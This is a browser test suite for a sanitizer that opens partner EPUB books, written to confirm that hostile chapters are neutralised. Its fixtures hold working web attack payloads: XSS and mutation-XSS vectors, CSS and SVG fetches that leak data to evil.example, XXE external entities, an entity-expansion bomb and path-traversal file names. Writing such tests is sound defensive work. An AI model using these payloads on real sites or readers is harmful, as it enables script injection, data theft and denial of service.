import { resolve } from 'node:path';
import { strToU8, type Zippable, zipSync } from 'fflate';
import type { Browser, Page } from 'playwright';
import { build } from 'vite';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { rounds } from '../../server/testing/rounds.ts';
import { launchBrowser } from './stage.ts';

/*
 * A partner's EPUB is opened by the visitor's own browser, so its gate is tested in one: hostile chapters go in, and
 * what comes out is read as XML and as HTML in a page whose only witness is `window.leaked`.
 */

const project = resolve(import.meta.dirname, '../..');
const SITE = 'http://gate.localhost';

let browser: Browser;
let page: Page;
const asked: string[] = [];
let epub: Uint8Array = new Uint8Array();

interface Opened {
  reason?: string;
  title?: string;
  authors?: string[];
  toc?: { label: string; href: string; spine: number }[];
  chapters?: string[];
  chars?: number;
  cover?: boolean;
  dir?: string;
}

interface Seen {
  leaked: unknown;
  /** What a parser of the browser was given. */
  parsed: string[];
}

async function bundledGate(): Promise<string> {
  const built = await build({
    configFile: false,
    root: project,
    logLevel: 'silent',
    build: {
      write: false,
      minify: false,
      lib: {
        entry: resolve(project, 'embed/book-source/partner-book.ts'),
        formats: ['es'],
        fileName: 'gate',
      },
    },
  });
  const first = Array.isArray(built) ? built[0] : undefined;
  const chunk = first && 'output' in first ? first.output[0] : undefined;
  if (chunk?.type !== 'chunk') throw new Error('the gate was not bundled');
  return chunk.code;
}

beforeAll(async () => {
  const gate = await bundledGate();
  browser = await launchBrowser();
  page = await browser.newPage();
  await page.route('**/*', route => {
    const url = route.request().url();
    if (url === `${SITE}/`)
      return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>gate</title>' });
    if (url === `${SITE}/gate.js`) return route.fulfill({ contentType: 'text/javascript', body: gate });
    if (url === `${SITE}/book.epub`)
      return route.fulfill({ contentType: 'application/epub+zip', body: Buffer.from(epub) });
    asked.push(url);
    return route.abort();
  });
  await page.goto(`${SITE}/`);
}, 180_000);

afterAll(async () => {
  await browser?.close();
});

const opf = (extra = '', items = '', refs = '') =>
  `<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Thử</dc:title><dc:creator>Ai đó</dc:creator><dc:language>vi</dc:language>${extra}</metadata><manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/>${items}</manifest><spine><itemref idref="c"/>${refs}</spine></package>`;
const xhtml = (body: string, head = '') =>
  `<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" xmlns:xlink="http://www.w3.org/1999/xlink"><head><title/>${head}</head><body>${body}</body></html>`;

function book(
  chapter: string,
  more: Record<string, string | Uint8Array> = {},
  packageText = opf(),
): Uint8Array {
  const files: Zippable = {
    mimetype: [strToU8('application/epub+zip'), { level: 0 }],
    'META-INF/container.xml': strToU8(
      '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="o/p.opf"/></rootfiles></container>',
    ),
    'o/p.opf': strToU8(packageText),
    'o/c.xhtml': strToU8(chapter),
  };
  for (const [name, body] of Object.entries(more))
    files[name] = typeof body === 'string' ? strToU8(body) : body;
  return zipSync(files);
}

/** Opens the bytes in the browser, shows every chapter as XML and as HTML in frames that may run, and reports. */
async function open(bytes: Uint8Array): Promise<Opened & Seen> {
  epub = bytes;
  asked.length = 0;
  await page.reload();
  const source = `(async () => {
    window.leaked = undefined;
    const parsed = [];
    const { parseFromString } = DOMParser.prototype;
    DOMParser.prototype.parseFromString = function (text, type) {
      parsed.push(String(text).slice(0, 20_000));
      return parseFromString.call(this, text, type);
    };
    const { openPartnerBook } = await import('/gate.js');
    try {
      const { start, book, cover } = await openPartnerBook('${SITE}/book.epub', null);
      const chapters = [];
      for (let index = 0; index < start.package.spine.length; index += 1) chapters.push(await book.chapter(index));
      for (const html of chapters) {
        // Worse than the reader does: no sandbox, our own origin, and both ways of parsing.
        for (const type of ['application/xhtml+xml', 'text/html']) {
          const frame = document.createElement('iframe');
          frame.src = URL.createObjectURL(new Blob([html.replace(/<meta http-equiv[^>]*>/, '')], { type }));
          document.body.append(frame);
          // Real time: the most that a frame without a load event is given.
          await new Promise(done => { frame.onload = done; setTimeout(done, 1500); });
        }
      }
      // Real time: what leaks does so after its load.
      await new Promise(done => setTimeout(done, 150));
      const { title, authors, dir, toc, chars } = start.package;
      return { title, authors, dir, toc, chars, chapters, cover: cover !== null, leaked: window.leaked, parsed };
    } catch (error) {
      return { reason: error.reason ?? String(error), leaked: window.leaked, parsed };
    }
  })()`;
  return page.evaluate(source) as Promise<Opened & Seen>;
}

const LEAK = 'top.leaked=1';

test('an honest book comes through: title, author, contents, text, notes and links', async () => {
  const nav = xhtml(
    '<nav epub:type="toc"><ol><li><a href="c.xhtml">Một</a></li><li><a href="d.xhtml#x">Hai</a></li><li><a href="https://evil.example/">Ra ngoài</a></li></ol></nav>',
  );
  const items =
    '<item id="d" href="d.xhtml" media-type="application/xhtml+xml"/><item id="n" href="n.xhtml" media-type="application/xhtml+xml" properties="nav"/>';
  const opened = await open(
    book(
      xhtml(
        '<h1>Gió bấc</h1><p>Thuỷ ngồi <a id="a"/>xuống.<a epub:type="noteref" href="#n1">1</a> <a href="d.xhtml#x">tiếp</a> <a href="https://example.vn/">ngoài</a></p><aside epub:type="footnote" id="n1">Ghi chú</aside>',
      ),
      { 'o/d.xhtml': xhtml('<p id="x">Hết</p>'), 'o/n.xhtml': nav },
      opf('', items, '<itemref idref="d"/>'),
    ),
  );
  expect(opened).toMatchObject({ title: 'Thử', authors: ['Ai đó'], dir: 'ltr', leaked: undefined });
  expect(opened.toc).toEqual([
    { label: 'Một', href: 'c/0001.xhtml', spine: 0, children: [] },
    { label: 'Hai', href: 'c/0002.xhtml#x', spine: 1, children: [] },
    { label: 'Ra ngoài', href: '', spine: -1, children: [] },
  ]);
  const [first = ''] = opened.chapters ?? [];
  expect(first).toContain('<h1>Gió bấc</h1>');
  expect(first).toContain('href="#n1"');
  expect(first).toContain('role="doc-noteref"');
  expect(first).toContain('href="0002.xhtml#x"');
  expect(first).toContain('rel="noopener noreferrer"');
  expect(first).toMatch(/<a id="a"><\/a>xuống|<a id="a"\/>xuống/);
  expect(opened.chars).toBeGreaterThan(20);
});

test('a book about HTML keeps its examples as text', async () => {
  const opened = await open(book(xhtml('<p>Viết &lt;script&gt;alert(1)&lt;/script&gt; là sai.</p>')));
  expect(opened.chapters?.[0]).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  expect(opened.leaked).toBeUndefined();
});

const hostile: [string, string, string?][] = [
  ['an inline script', `<script>${LEAK}</script>`],
  ['a script in capitals', `<SCRIPT>${LEAK}</SCRIPT>`],
  ['a prefixed script', `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${LEAK}</h:script>`],
  ['a script in SVG', `<svg xmlns="http://www.w3.org/2000/svg"><script>${LEAK}</script></svg>`],
  ['an image that fails', `<img src="x" onerror="${LEAK}"/>`],
  [
    'a handler with odd capitals',
    `<p oNcLiCk="${LEAK}" onanimationstart="${LEAK}" style="animation:x 1s">a</p>`,
  ],
  ['a details that opens', `<details open="open" ontoggle="${LEAK}">a</details>`],
  ['an SVG that loads', `<svg xmlns="http://www.w3.org/2000/svg" onload="${LEAK}"><g/></svg>`],
  [
    'an SVG that animates a link',
    `<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:${LEAK}"/><text>a</text></a></svg>`,
  ],
  ['a javascript link', `<a href="java&#9;script:${LEAK}">a</a>`],
  ['a frame', `<iframe srcdoc="&lt;script&gt;${LEAK}&lt;/script&gt;"></iframe>`],
  [
    'an object',
    `<object data="data:text/html,&lt;script&gt;${LEAK}&lt;/script&gt;"></object><embed src="data:text/html,x"/>`,
  ],
  [
    'a form',
    `<form action="https://evil.example/"><input name="a"/><button formaction="https://evil.example/">a</button></form>`,
  ],
  [
    'a base and a refresh in the head',
    '<p>a</p>',
    '<base href="https://evil.example/"/><meta http-equiv="refresh" content="0;url=https://evil.example/"/>',
  ],
  ['CDATA that closes early', `<p><![CDATA[</p><script>${LEAK}</script>]]></p>`],
  [
    'mutation through MathML',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${LEAK}&gt;"/></mglyph></table></mtext></math>`,
  ],
  [
    'mutation through noscript',
    `<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=${LEAK}&gt;">a</p></noscript>`,
  ],
  [
    'a remote picture',
    '<img src="https://evil.example/a.png"/><picture><source srcset="https://evil.example/b.png"/></picture>',
  ],
  [
    'a remote style',
    '<p>a</p>',
    '<link rel="stylesheet" href="https://evil.example/a.css"/><style>@import url(https://evil.example/b.css);body{background:url(https://evil.example/c.png)}@font-face{font-family:x;src:url(https://evil.example/d.woff)}p{font-family:x}</style>',
  ],
  [
    'a style that reads letters',
    '<p style="background:image-set(&quot;https://evil.example/e.png&quot; 1x)">a</p>',
    '<style>p[title^="a"]{background:\\75rl(https://evil.example/f.png)}</style>',
  ],
  [
    'a style that closes early',
    '<p>a</p>',
    `<style>p::before{content:"&lt;/style&gt;&lt;img src=x onerror=${LEAK}&gt;"}</style>`,
  ],
  ['a cover over everything', '<div style="position:fixed;inset:0;z-index:99999">Đăng nhập</div>'],
  [
    'an SVG use of another file',
    '<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/a.svg#x"/><image href="https://evil.example/g.png"/></svg>',
  ],
  ['a template', `<template><img src="x" onerror="${LEAK}"/></template>`],
  ['an XML entity', '<p>a</p>'],
];

/** Every day one of three that are alike; in npm run test:all each. */
const tried = hostile.filter((_, at) => rounds(0, 1) || at % 3 === 0);

test.each(tried)('%s does nothing and asks nobody', async (name, body, head) => {
  const chapter =
    name === 'an XML entity'
      ? `<!DOCTYPE html [<!ENTITY x "<script xmlns='http://www.w3.org/1999/xhtml'>${LEAK}</script>">]>${xhtml('<p>&x;</p>')}`
      : xhtml(`<p>Đầu</p>${body}<p>Cuối</p>`, head);
  const opened = await open(book(chapter));
  expect(opened.leaked, opened.chapters?.[0]).toBeUndefined();
  // A link that a person may press is not a request; everything else outside the book is.
  expect(asked, opened.chapters?.[0]).toEqual([]);
  const [html = ''] = opened.chapters ?? [];
  expect(html).not.toContain('evil.example');
  expect(html.match(/<style>[^<]*<\/style>/g)).toHaveLength(1);
  const markup = html
    .replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')
    .replace(/<style>[^<]*<\/style>/, '');
  expect(markup).not.toMatch(
    /<(script|iframe|object|embed|form|input|button|base|link|template|use|animate)\b|\son\w+=|position:\s*fixed/i,
  );
  expect(opened.reason).toBeUndefined();
});

test.each<[string, Uint8Array, RegExp]>([
  ['a file that is no zip', strToU8('<html>404</html>'), /not_a_zip|not_zip/],
  ['a zip that is no book', zipSync({ 'a.txt': strToU8('a') }), /missing_file/],
  [
    'a package with entities that build on each other',
    book(xhtml('a'), {}, `<!DOCTYPE p [<!ENTITY a "b"><!ENTITY c "&a;&a;">]>${opf()}`),
    /entities/,
  ],
  ['a package that climbs out', book(xhtml('a'), {}, opf().replace('c.xhtml', '../../c.xhtml')), /bad_name/],
  [
    'a package with a root of its own',
    book(xhtml('a'), {}, opf().replace('c.xhtml', '/etc/c.xhtml')),
    /bad_name/,
  ],
  ['a package without chapters', book(xhtml('a'), {}, opf().replace('<itemref idref="c"/>', '')), /spine/],
  [
    'a locked book',
    book(xhtml('a'), {
      'META-INF/encryption.xml':
        '<encryption><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/></encryption>',
    }),
    /encrypted/,
  ],
])('%s is refused', async (_, bytes, reason) => {
  expect((await open(bytes)).reason).toMatch(reason);
});

test('markup in a title is text', async () => {
  const opened = await open(book(xhtml('a'), {}, opf().replace('Thử', `&lt;img src=x onerror=${LEAK}&gt;`)));
  expect(opened.title).toBe(`<img src=x onerror=${LEAK}>`);
  expect(opened.leaked).toBeUndefined();
});

const navItem = '<item id="n" href="n.xhtml" media-type="application/xhtml+xml" properties="nav"/>';
const withNav = (nav: string) => book(xhtml('<p>a</p>'), { 'o/n.xhtml': nav }, opf('', navItem));

/** Ten levels of ten: eleven gigabytes of letters out of two kilobytes, where somebody applies them. */
const nested = Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
).join('');
const bomb = `<!DOCTYPE html [<!ENTITY e0 "haha haha ">${nested}]>`;

test.each([
  [
    'nested entities in the table of contents',
    `${bomb}${xhtml('<nav><ol><li><a href="c.xhtml">&e9;</a></li></ol></nav>')}`,
  ],
  [
    'an entity from outside in the table of contents',
    `<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.example/x">]>${xhtml('<nav><ol><li><a href="c.xhtml">&x;</a></li></ol></nav>')}`,
  ],
  [
    'a parameter entity',
    `<!DOCTYPE html [<!ENTITY % x SYSTEM "https://evil.example/x">%x;]>${xhtml('<nav/>')}`,
  ],
])('%s is refused before a parser sees it', async (_, nav) => {
  // Parsing it froze the frame for eleven seconds and more.
  const opened = await open(withNav(nav));
  expect(opened.reason).toBe('entities');
  expect(opened.parsed.filter(text => text.includes('<package'))).not.toEqual([]);
  expect(opened.parsed.filter(text => /ENTITY|&e9;|&x;/.test(text))).toEqual([]);
  expect(asked).toEqual([]);
});

test('nested entities in a chapter are refused as well', async () => {
  expect((await open(book(`${bomb}${xhtml('<p>&e9;</p>')}`))).reason).toBe('entities');
});

test('entities of one level are taken away and their names stay words', async () => {
  const opened = await open(
    withNav(
      `<!DOCTYPE html [<!ENTITY t "Tên">]>${xhtml('<nav><ol><li><a href="c.xhtml">Một</a></li></ol></nav>')}`,
    ),
  );
  expect(opened.reason).toBeUndefined();
  expect(opened.toc?.[0]?.label).toBe('Một');
});

test('a chapter in UTF-16 is read as at import', async () => {
  const text = `\uFEFF<?xml version="1.0" encoding="UTF-16"?>${xhtml('<p>Gió bấc về</p>')}`;
  const bytes = new Uint8Array(Buffer.from(text, 'utf16le'));
  const opened = await open(book('', { 'o/c.xhtml': bytes }));
  expect(opened.reason).toBeUndefined();
  expect(opened.chapters?.[0]).toContain('Gió bấc về');
});

test('a drawing paints with its own parts alone', async () => {
  const drawing = (paint: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><defs><linearGradient id="g"/></defs>${paint}</svg>`;
  const opened = await open(
    book(
      xhtml(
        drawing(
          '<rect fill="url(https://evil.example/a#x)" stroke="url(\'//evil.example/b#x\')" mask="u\\72l(https://evil.example/c)" width="9" height="9"/><circle fill="url(#g)" style="stroke:url(#g);fill:url(https://evil.example/d)" r="4"/>',
        ),
      ),
    ),
  );
  const [html = ''] = opened.chapters ?? [];
  expect(html).not.toContain('evil.example');
  expect(html).toContain('fill="url(#g)"');
  expect(html).toMatch(/stroke:\s*url\((&quot;|")?#g/);
  expect(asked).toEqual([]);
});

test('sizes in units of the window become sizes of the page', async () => {
  const opened = await open(
    book(
      xhtml(
        '<div style="width:200vw;height:200dvh">a</div>',
        '<style>p{min-height:calc(50vh - 1em);width:10vmin;--page-vw:9999px}</style>',
      ),
    ),
  );
  const [html = ''] = opened.chapters ?? [];
  expect(html).toMatch(/width:\s*calc\(200 ?\* ?var\(--page-vw/);
  expect(html).toMatch(/height:\s*calc\(200 ?\* ?var\(--page-vh/);
  expect(html.replace(/,\s*1v[wh]\)/g, ')')).not.toMatch(/\d(vw|vh|vmin|dvh)\b|9999px/);
});

test('words of a book that leave in messages are short', async () => {
  const long = 'Dài '.repeat(50_000);
  const opened = await open(
    book(
      xhtml(`<h1>${long}</h1>`),
      { 'o/n.xhtml': xhtml(`<nav><ol><li><a href="c.xhtml">${long}</a></li></ol></nav>`) },
      opf('', navItem).replace('Thử', long),
    ),
  );
  expect(opened.reason).toBeUndefined();
  expect(opened.title?.length).toBeLessThanOrEqual(2_000);
  expect(opened.toc?.[0]?.label.length).toBeLessThanOrEqual(300);
});
